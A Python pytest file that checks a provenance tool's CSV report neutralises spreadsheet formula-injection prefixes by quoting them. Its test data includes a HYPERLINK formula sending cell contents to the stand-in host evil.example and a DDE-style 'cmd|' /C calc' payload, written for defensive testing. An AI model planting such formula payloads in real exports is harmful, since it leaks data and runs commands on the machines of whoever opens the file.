"""Issue 13: text cells of `report --format csv` that a spreadsheet would run as a formula.

OWASP's defence: a cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a
leading single quote. Before the fix each value went into its cell as it was.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from provenance.cli import main
from provenance.compliance.review import record_review
from provenance.home.ledger import open_ledger
from provenance.home.paths import Home
from provenance.record.recorder import Recorder
from tests.compliance.conftest import make_reviewer

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_formula_prefixes_are_neutralised(prefix: str, home: Home, workdir: Path) -> None:
    payload = f'{prefix}HYPERLINK("http://evil.example/"&A1)'
    with Recorder(home, actor=f"{prefix}cmd|' /C calc'!A0") as rec:
        [out] = rec.generate(f"{prefix}SUM(1+1) a red circle", workdir / "a.png", size="64x64")
    with open_ledger(home) as ledger:
        who = make_reviewer(home, payload, workdir / "keys", as_email=False).signer
        record_review(ledger, out.path, "approve", signer=who, note=payload)
    report = workdir / "audit.csv"  # a file: the terminal's newline translation would eat CR
    assert main(["report", "--since", "2000-01-01", "--format", "csv", "-o", str(report)]) == 0
    rows = list(csv.DictReader(io.StringIO(report.read_bytes().decode("utf-8"), newline="")))
    asset = next(r for r in rows if r["kind"] != "review")
    cells = {"actor": asset["actor"], "prompt": asset["prompt"], "reviewer": asset["reviewer"]}
    for column, cell in cells.items():
        assert cell.startswith("'" + prefix), (column, cell)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(tuple(PREFIXES)), (column, cell)
